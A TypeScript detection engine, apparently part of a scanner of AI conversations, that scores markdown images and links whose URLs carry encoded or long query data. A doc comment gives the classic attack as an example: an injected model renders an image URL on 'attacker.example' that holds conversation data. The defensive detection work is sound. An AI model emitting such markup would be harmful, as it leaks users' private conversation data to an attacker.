import type { Hit } from '../types.js';
import { type Engine, hit, MAX_HITS_PER_ENGINE, type ScanContext } from './engine.js';
import { findLinks, parseUrl } from './url-scan.js';

const ENCODED_VALUE = /^[A-Za-z0-9+/=_-]{16,}$/;

/**
 * How strongly a URL looks like a data carrier: query values that are long, encoded or prose, or
 * long encoded path segments. The classic attack makes the model render
 * `![](https://attacker.example/p?d=<conversation data>)`, which the client fetches automatically.
 */
export function exfiltrationScore(raw: string): number {
  const url = parseUrl(raw);
  if (url === undefined || (url.protocol !== 'https:' && url.protocol !== 'http:')) return 0;
  let score = 0;
  for (const [, value] of url.searchParams) {
    const words = value.trim().split(/\s+/).length;
    if (value.length >= 64) score = Math.max(score, 0.9);
    else if (words >= 3) score = Math.max(score, 0.85);
    else if (ENCODED_VALUE.test(value) && /\d/.test(value) && /[A-Za-z]/.test(value))
      score = Math.max(score, 0.8);
    else if (value.length >= 24) score = Math.max(score, 0.7);
    else score = Math.max(score, 0.3);
  }
  for (const seg of url.pathname.split('/')) {
    if (seg.length >= 32 && ENCODED_VALUE.test(seg)) score = Math.max(score, 0.75);
  }
  return score;
}

/**
 * Data exfiltration through rendered markdown: images (fetched with no click) and links whose URL
 * carries data. Judged at full strength in assistant answers, where rendering happens; in other
 * roles the same markup is only a weak signal (it may be an injected template).
 */
export const dataExfiltrationEngine: Engine = {
  id: 'data_exfiltration',
  version: '1.0.0',
  flags: ['DATA_EXFILTRATION'],
  description:
    'Markdown/HTML images and links whose URL carries data (long, encoded or prose query values), ' +
    'mainly in assistant answers.',
  run(ctx: ScanContext): Hit[] {
    const hits: Hit[] = [];
    const roleFactor = ctx.role === 'assistant' ? 1 : 0.5;
    for (const view of ctx.input.views) {
      for (const link of findLinks(view.surface.text)) {
        if (hits.length >= MAX_HITS_PER_ENGINE) return hits;
        const base = exfiltrationScore(link.url);
        if (base === 0) continue;
        // A link needs a click; an image is fetched by the client as soon as it renders.
        const score = base * (link.image ? 1 : 0.8) * roleFactor;
        const span = view.surface.span(link.start, link.end);
        hits.push(
          hit(link.image ? 'exfil.markdown_image' : 'exfil.markdown_link', 'DATA_EXFILTRATION', score, span),
        );
      }
    }
    return hits;
  },
};
